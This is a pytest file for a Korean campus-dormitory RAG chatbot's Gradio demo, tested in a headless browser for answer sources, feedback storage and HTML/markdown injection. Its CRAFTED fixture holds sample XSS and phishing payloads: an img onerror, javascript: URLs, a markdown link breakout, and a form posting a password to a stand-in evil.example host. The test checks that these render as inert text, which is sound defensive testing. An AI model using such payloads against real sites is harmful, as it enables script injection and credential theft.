"""`culbot demo` in a real headless browser: Debian's chromium driven by Playwright asks a question, and the streamed
answer and its sources appear under it; the page shows the model's version. A screenshot goes to the test's tmp folder."""
from __future__ import annotations

import shutil

import pytest

from culbot.pipeline_config.train_schema import AnswerConfig

from .servers.base import free_port

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium (apt-get install chromium fonts-noto-cjk; .ci/run does)")


def ask(page, port: int, question: str) -> None:
    """Open the demo, ask ``question`` and wait for the answer's sources."""
    page.goto(f"http://127.0.0.1:{port}/", wait_until="load")   # gradio keeps a connection open: never "networkidle"
    page.wait_for_selector("textarea", timeout=60_000)
    box = page.locator("textarea").first
    box.fill(question)
    box.press("Enter")
    page.get_by_text("출처").first.wait_for(timeout=60_000)


def test_the_demo_answers_in_a_browser_with_sources_and_the_model_version(trained_run, cbnu_index, tmp_path):
    from playwright.sync_api import sync_playwright

    from culbot.tasks.answer import Answerer
    from culbot.tasks.demo import build_demo

    answerer = Answerer.load(trained_run / "adapter", cbnu_index, spec=AnswerConfig(max_new_tokens=12, no_answer_threshold=0.0))
    port = free_port()
    demo = build_demo(answerer)
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
    shot = tmp_path / "demo.png"
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
            page = browser.new_page(viewport={"width": 1100, "height": 900})
            page.goto(f"http://127.0.0.1:{port}/", wait_until="load")   # gradio keeps a connection open: never "networkidle"
            page.wait_for_selector("textarea", timeout=60_000)
            assert trained_run.name in page.content() and "template" in page.content()   # the model's version in the header
            assert page.get_by_label("문서 검색 사용 (retrieval)").is_checked()
            box = page.locator("textarea").first
            box.fill("기숙사 신청은 언제 해요?")
            box.press("Enter")
            page.get_by_text("출처").first.wait_for(timeout=60_000)
            bot = page.locator(".message.bot, [data-testid='bot']").last
            assert "생활관 입사 안내" in bot.inner_text() and bot.locator("a[href=\"https://dorm.chungbuk.ac.kr/\"]").count() >= 1
            page.screenshot(path=str(shot), full_page=True)
            browser.close()
    finally:
        demo.close()
    assert shot.stat().st_size > 10_000


CRAFTED = {   # file -> (title, canonical URL): untrusted pages as a crawl may bring them
    "img.html": ('<img src="https://evil.example/pixel.png" onerror="alert(1)"> 생활관 입사 신청', "https://dorm.chungbuk.ac.kr/notice"),
    "link.html": ('<a href="https://evil.example/login">로그인</a> 생활관 입사 서류', None),
    "form.html": ('<form action="https://evil.example/steal"><input type="password" name="pw"><button>확인</button></form> 생활관 입사 비용', None),
    "breakout.html": ("생활관 입사 일정", "https://dorm.chungbuk.ac.kr/a) [여기를 눌러 로그인](javascript:alert(1)) ("),
    "markdown.html": ("[공지 보기](https://evil.example/md) 생활관 입사 점호", "javascript:alert(1)"),
}


def test_crafted_page_titles_and_urls_are_shown_as_text_in_the_browser(trained_run, tmp_path):
    """Issue 24: a title's <img> was fetched, a title's <a> and <form> were live, a canonical URL broke out of the markdown
    link, and a title's markdown link was a link. Now the only link is the one valid http(s) canonical URL."""
    from playwright.sync_api import sync_playwright

    from culbot.pipeline_config.schema import RagConfig
    from culbot.tasks.answer import Answerer
    from culbot.tasks.demo import build_demo
    from culbot.tasks.index import build_index

    pages = tmp_path / "pages"
    pages.mkdir()
    for name, (title, canonical) in CRAFTED.items():
        import html as _html

        link = f'<link rel="canonical" href="{_html.escape(canonical)}">' if canonical else ""
        (pages / name).write_text(f"<html><head><title>{_html.escape(title)}</title>{link}</head><body><h1>생활관 입사 안내</h1>"
                                  f"<p>생활관 입사 신청은 2월 3일부터 7일까지 학생생활관 누리집에서 합니다. {name} 문서의 안내입니다. "
                                  f"입사 서류와 비용, 점호 일정도 이곳에서 확인하세요.</p></body></html>", encoding="utf-8")
    index = build_index(pages, RagConfig(), tmp_path / "index").path
    answerer = Answerer.load(trained_run / "adapter", index, spec=AnswerConfig(max_new_tokens=4, no_answer_threshold=0.0, context_k=5))
    assert {s.url for s in answerer.reply("생활관 입사 신청은 언제 해요?").sources} >= {"https://dorm.chungbuk.ac.kr/notice"}
    port = free_port()
    demo = build_demo(answerer)
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
            page = browser.new_page(viewport={"width": 1100, "height": 1400})
            asked: list[str] = []
            page.on("request", lambda r: asked.append(r.url))
            ask(page, port, "생활관 입사 신청은 언제 해요?")
            bot = page.locator(".message.bot, [data-testid='bot']").last
            shown = bot.inner_text()
            page.screenshot(path=str(tmp_path / "crafted.png"), full_page=True)
            links = [a.get_attribute("href") for a in bot.locator("a").all()]
            counts = {tag: bot.locator(tag).count() for tag in ("img", "form", "input", "button", "script", "iframe")}
            browser.close()
    finally:
        demo.close()
    assert links == ["https://dorm.chungbuk.ac.kr/notice"], links
    assert counts == dict.fromkeys(counts, 0), counts
    assert '<img src="https://evil.example/pixel.png"' in shown and '<form action="https://evil.example/steal">' in shown
    assert "[공지 보기](https://evil.example/md)" in shown   # a title's markdown, as text
    assert not [u for u in asked if "evil.example" in u], asked


def test_thumbs_and_a_correction_in_the_browser_reach_the_feedback_store(trained_run, cbnu_index, tmp_path):
    """Issue 26: each answer in the demo has 👍/👎, and "정답 알려주기" corrects the last one; both are stored under the
    answer's id, with the question, the exact prompt and the sources, waiting for review."""
    from playwright.sync_api import sync_playwright

    from culbot.tasks.answer import Answerer
    from culbot.tasks.demo import build_demo
    from culbot.tasks.feedback_store import FeedbackStore

    answerer = Answerer.load(trained_run / "adapter", cbnu_index, spec=AnswerConfig(max_new_tokens=8, no_answer_threshold=0.0))
    store = FeedbackStore(f"sqlite:///{tmp_path}/fb.db")
    port = free_port()
    demo = build_demo(answerer, feedback=store)
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
            page = browser.new_page(viewport={"width": 1100, "height": 900})
            ask(page, port, "기숙사 신청은 언제 해요?")
            page.get_by_role("button", name="Dislike").last.click()
            page.get_by_text("평가 고맙습니다").wait_for(timeout=30_000)
            page.get_by_label("정답 알려주기").fill("생활관 홈페이지에서 2월에 신청합니다.")
            page.get_by_role("button", name="보내기").click()
            page.get_by_text("정답 고맙습니다").wait_for(timeout=30_000)
            assert page.get_by_label("정답 알려주기").input_value() == ""
            page.screenshot(path=str(tmp_path / "feedback.png"), full_page=True)
            browser.close()
    finally:
        demo.close()
    items = store.items()
    assert [(i["rating"], i["correction"]) for i in reversed(items)] == [("down", None), ("down", "생활관 홈페이지에서 2월에 신청합니다.")]
    kept = items[0]
    assert kept["channel"] == "demo" and kept["question"] == "기숙사 신청은 언제 해요?" and kept["answer_id"] == items[1]["answer_id"]
    assert kept["prompt"] == answerer.reply("기숙사 신청은 언제 해요?").prompt and kept["sources"] and kept["status"] == "pending"
